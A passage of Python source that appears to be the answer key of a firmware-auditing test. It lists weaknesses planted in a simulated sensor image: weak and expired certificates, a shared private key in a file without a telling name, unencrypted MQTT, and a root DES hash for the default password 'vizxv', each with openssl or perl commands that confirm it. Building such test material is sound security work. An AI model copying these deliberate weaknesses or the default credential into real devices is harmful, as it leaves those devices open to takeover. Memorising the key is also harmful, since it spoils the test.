            "x509(1): RSA 1024, SHA-1",
            "broker.pem",
            {"etc/ssl/sensor/broker.pem": SHORT_KEY_CERTIFICATE},
            witness=shell(
                "openssl x509 -in etc/ssl/sensor/broker.pem -noout -text", r"Public-Key: \(1024 bit\)", "openssl"
            ),
        ),
        Mistake(
            "certificate-weak",
            "x509(1), -checkend",
            "old.pem",
            {"etc/ssl/sensor/old.pem": EXPIRED_CERTIFICATE},
            witness=shell("openssl x509 -in etc/ssl/sensor/old.pem -noout -checkend 0", "will expire", "openssl"),
        ),
        Mistake(
            "private-key-embedded",
            "ec(1): the old certificate's key, in a file without a telling name",
            "client.dat",
            {"etc/ssl/sensor/client.dat": secret(EC_KEY)},
            witness=shell("openssl pkey -in etc/ssl/sensor/client.dat -noout -text", "^Private-Key", "openssl"),
        ),
        *also("one key for every sensor", ("image-sameness", "client.dat")),
        Mistake(
            "plaintext-protocol",
            "MQTT 3.1.1, 5.4: mqtt on 1883 has no TLS",
            "mqtt",
            {"etc/sensor/sensor.toml": '[broker]\nurl = "mqtt://updates.maker.example:1883"\nqos = 1\n'},
        ),
        Mistake(
            "account-weak-hash",
            "crypt(5), descrypt",
            "root",
            {"etc/shadow": secret(shadow("sensor", root=VIZXV_DES))},
            witness=shell('perl -e \'print crypt("vizxv", "a7")\' | grep -F -f - etc/shadow', "^root:a7", "perl-base"),
        ),
        *also(
            "crypt(5); the password is vizxv, in every sensor",
            ("account-default-password", "root"),
            ("image-sameness", "shadow"),
        ),
        Mistake("support-period-missing", "device.toml, support.until", ""),
    ),
)

SYSTEMS: tuple[Truth, ...] = (GATEWAY_SYSTEM, PANEL_SYSTEM, BOX_SYSTEM, SENSOR_SYSTEM)
